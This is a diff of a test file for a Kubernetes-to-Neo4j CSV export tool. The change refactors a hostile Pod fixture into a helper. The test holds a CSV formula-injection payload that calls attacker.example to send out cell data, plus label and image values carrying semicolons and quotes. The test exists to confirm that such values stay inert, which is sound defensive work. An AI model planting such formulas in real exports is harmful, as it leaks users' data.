@@ -16,7 +16,7 @@ import {csvFiles} from '../src/export/csv.js';
 import type {ExportRecords} from '../src/export/records.js';
 import {admin, layout, start, stop} from '../src/neo4j/local-server.js';
 import {EXAMPLE, ROOT, runCli, tempDir} from './helpers/cli.js';
-import {countBy, expectedExport} from './helpers/export-expected.js';
+import {countBy, expectedExport, hostilePodFile} from './helpers/export-expected.js';
 
 /** A User subject a namespace admin may name anything: here, a spreadsheet formula. */
 const FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")';
@@ -42,22 +42,7 @@ function exportCsv(inputs: string[]): string {
 describe('kubepath export csv', () => {
   it('imports with neo4j-admin as its README says: the whole graph, typed, hostile values as data', async () => {
     const hostile = `a,b "c" ;d\nline two`;
-    const file = join(tempDir(), 'hostile.yaml');
-    writeFileSync(
-      file,
-      [
-        'apiVersion: v1',
-        'kind: Pod',
-        'metadata:',
-        '  name: web',
-        '  namespace: evil',
-        `  labels: {app: ${JSON.stringify(hostile)}}`,
-        'spec:',
-        `  containers: [{name: app, image: ${JSON.stringify(`r.example/x;${hostile}`)}}]`,
-        '---',
-        FORMULA_BINDING,
-      ].join('\n'),
-    );
+    const file = hostilePodFile(hostile, `r.example/x;${hostile}`, FORMULA_BINDING);
     const out = exportCsv([EXAMPLE, file]);
     const again = exportCsv([EXAMPLE, file]);
     for (const name of readdirSync(out)) expect(readFileSync(join(again, name), 'utf8'), name).toBe(readFileSync(join(out, name), 'utf8'));
